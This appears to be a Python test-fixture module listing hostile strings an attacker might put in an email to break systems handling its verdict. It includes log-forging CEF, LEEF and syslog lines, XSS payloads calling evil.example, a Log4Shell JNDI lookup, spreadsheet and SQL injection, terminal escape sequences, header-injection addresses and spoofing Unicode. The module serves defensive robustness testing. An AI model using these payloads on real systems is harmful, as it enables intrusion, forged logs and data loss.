# ruff: noqa: RUF001 - look-alike characters are the point
r"""Texts that an attacker could put into an email to break systems that process its verdict.

Each tries something different: to forge a field, a line, a frame, a log record, markup, a mention, a link or
a file name, or to make a parser fail.
"""

from __future__ import annotations

from typing import Final

TEXTS: Final = (
    "Re: テスト\r\n CEF:0|fake|inject|1|x=y\\",
    "a|b=c\\d|e=f src=203.0.113.9 act=allowed",
    "done\nCEF:0|Vendor|Product|1.0|100|all is well|0|src=192.0.2.1",
    "x\r\n<13>1 2026-01-01T00:00:00Z forged su - - - root logged in",
    "LEEF:2.0|Vendor|Product|1|x|^|sev=0^src=192.0.2.1",
    "tab\tcat=Clean\tsev=0\tusrName=admin",
    "line\u2028separator\u2029paragraph\u0085next\x0bvertical\x0cfeed",
    "invoice\u202efdp.exe \u2066isolated\u2069 \u200fmark",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\"><svg/onload=fetch('//evil.example')>",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07 \x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "nul\x00byte bell\x07 delete\x7f escape\x9b31m",
    '{"index":{"_index":"other"}}\n{"forged":true}',
    '"}\n{"event":"forged","index":"main"}',
    "<!channel> <@U000> @here [click](http://evil.example) `code` *bold*",
    "http://evil.example/login?a=b&c=d and hxxp://already[.]example",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a} {{7*7}} %n%s %(id)s $(id) {from}",
    "zero\u200bwidth\u200djoin\ufeffbom combi\u0301\u0302\u0303\u0304ning Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
    "𝔸stral 👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e007f \U0010ffff",
    "=?utf-8?B?44OG44K544OI?= =?x?Q?=0D=0ABcc:_root?=",
    "-1 OR 1=1; DROP TABLE mail;--",
    "long " + "A" * 4_000,
    "wide " + "漢" * 2_000,
    "pipes " + "|=\\" * 700,
    "   leading and trailing   ",
)  # fmt: skip
r"""Each is valid Unicode and survives UTF-8."""

SURROGATES: Final = (
    "half an emoji \ud83d here",
    "\udc00 the other half first",
    "both the wrong way round \ude00\ud83d",
)
r"""Not encodable in UTF-8: a server can only send them as JSON escapes such as ``\ud83d``."""

ADDRESSES: Final = (
    '"quoted, comma" <q.comma@example.net>',
    "Display | Name=x <display@example.org>",
    '"very.(),:;<>[]\\".VERY"@strange.example',
    "user@[IPv6:2001:db8::1]",
    "no-at-sign",
    "crlf\r\nbcc: root@example.com",
    "用户@例え.example",
    "a" * 300 + "@long.example",
    "<>",
    "",
    "@",
    "two@example.com, three@example.com",
)  # fmt: skip
